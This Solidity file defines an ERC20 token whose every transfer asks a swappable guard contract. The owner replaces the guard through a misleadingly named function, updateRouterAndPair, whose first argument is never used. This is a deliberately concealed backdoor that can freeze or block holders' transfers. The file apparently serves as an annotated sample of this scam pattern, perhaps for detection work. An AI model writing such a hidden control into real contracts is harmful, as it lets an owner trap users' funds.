// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable} from "./Base.sol";

/// @notice Asked about every transfer of a GuardedHookToken.
interface ITransferGuard {
    function inspect(address from, address to, uint256 amount) external returns (bool);
}

/// @title A guard that lets everything through (today's guard).
contract OpenGuard is ITransferGuard {
    uint256 public seen;

    function inspect(address, address, uint256) external returns (bool) {
        seen += 1;
        return true;
    }
}

/// @title external_call through an "anti-bot" guard: every transfer asks a
/// guard contract and reverts when it says no; the owner replaces the
/// guard with updateRouterAndPair(address,address), whose second argument
/// is the guard (the first is stored and never used).
contract GuardedHookToken is ERC20, Ownable {
    address public routerAddress;
    address private _guard;

    constructor(uint256 supply) ERC20("Guarded Hook", "GHOOK") Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function updateRouterAndPair(address router, address pairGuard) external onlyOwner {
        routerAddress = router;
        _guard = pairGuard;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        address g = _guard;
        if (g != address(0)) {
            require(ITransferGuard(g).inspect(from, to, value), "guard: refused");
        }
        _move(from, to, value);
    }
}
